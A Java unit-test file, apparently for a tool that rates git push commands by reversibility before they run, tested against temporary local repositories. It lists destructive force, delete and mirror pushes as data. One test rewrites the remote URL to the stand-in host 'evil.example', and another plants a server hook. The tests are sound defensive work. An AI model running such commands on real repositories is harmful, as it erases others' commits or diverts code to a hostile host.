package io.brattice.shell.git;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.brattice.action.Preview;
import io.brattice.action.Reversibility;
import io.brattice.shell.program.Prepared;
import java.nio.file.Path;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Pushes to a repository on this machine: rehearsed for real, and run for exactly what was shown. */
class PushedTest {

    @TempDir
    Path folder;

    private Bench bench;

    @BeforeEach
    void openBench() throws Exception {
        bench = new Bench(folder);
        bench.sh(
                "git init -q -b work . && echo 1 >one && git add . && git commit -qm first && git init -q --bare ../remote.git"
                        + " && git remote add origin $HOME/remote.git && git push -q origin work work:main work:other"
                        + " && git clone -q ../remote.git ../clone && cd ../clone && git checkout -q work && git commit -q --allow-empty -m theirs"
                        + " && git commit -q --allow-empty -m more && cd ../work && git commit -q --allow-empty -m mine");
    }

    @Test
    void aFastForwardIsRecoverableAndConditional() throws Exception {
        Bench.Trip trip = bench.judge("git push -u origin work");
        assertEquals(Reversibility.RECOVERABLE, trip.told.reversibility(), trip.told.toString());
        assertEquals(Preview.Fidelity.EXACT, trip.told.prepared.get(0).fidelity());
        bench.sh("cd ../clone && git push -q origin work");
        assertNotEquals(0, trip.keep().run().exit(), "the remote is not what was judged");
    }

    @Test
    void aForcedPushSaysWhatTheRemoteLoses() throws Exception {
        bench.sh("cd ../clone && git push -q origin work");
        Bench.Trip trip = bench.judge("git push --force origin work");
        Prepared part = trip.told.prepared.get(0);
        assertEquals(Reversibility.IRREVERSIBLE, trip.told.reversibility());
        assertTrue(part.text().contains("the remote loses 2 commits"), part.text());
        assertEquals(2, part.effects().get(0).count());
        bench.sh("cd ../clone && git commit -q --allow-empty -m again && git push -q origin work");
        assertNotEquals(0, trip.keep().run().exit());
        Bench.Trip again = bench.judge("git push -f origin work");
        assertEquals(0, again.keep().run().exit());
        assertEquals(bench.sh("git rev-parse HEAD"), bench.sh("git -C ../remote.git rev-parse work"));
    }

    @Test
    void everyWayToForceOrToDeleteIsGrave() {
        for (String line : new String[] {
            "git push origin +work",
            "git push origin :other",
            "git push -d origin other",
            "git push --force-with-lease origin work",
            "git push --mirror origin",
            "git push origin work:main",
            "git push --delet origin other"
        }) {
            Told told = bench.judge(line).told;
            assertEquals(Reversibility.IRREVERSIBLE, told.reversibility(), line + told);
            assertEquals(1, told.prepared.size(), line + told);
        }
    }

    @Test
    void aRemoteThatRunsSomethingIsNotBelieved() throws Exception {
        bench.sh("printf '#!/bin/sh\\n' >../remote.git/hooks/update && chmod +x ../remote.git/hooks/update");
        assertFalse(bench.judge("git push origin work").told.unclear.isEmpty());
    }

    @Test
    void aRewrittenUrlIsNotBelieved() throws Exception {
        bench.sh("git config url.https://evil.example/.insteadOf $HOME/");
        assertFalse(bench.judge("git push origin work").told.unclear.isEmpty());
    }
}
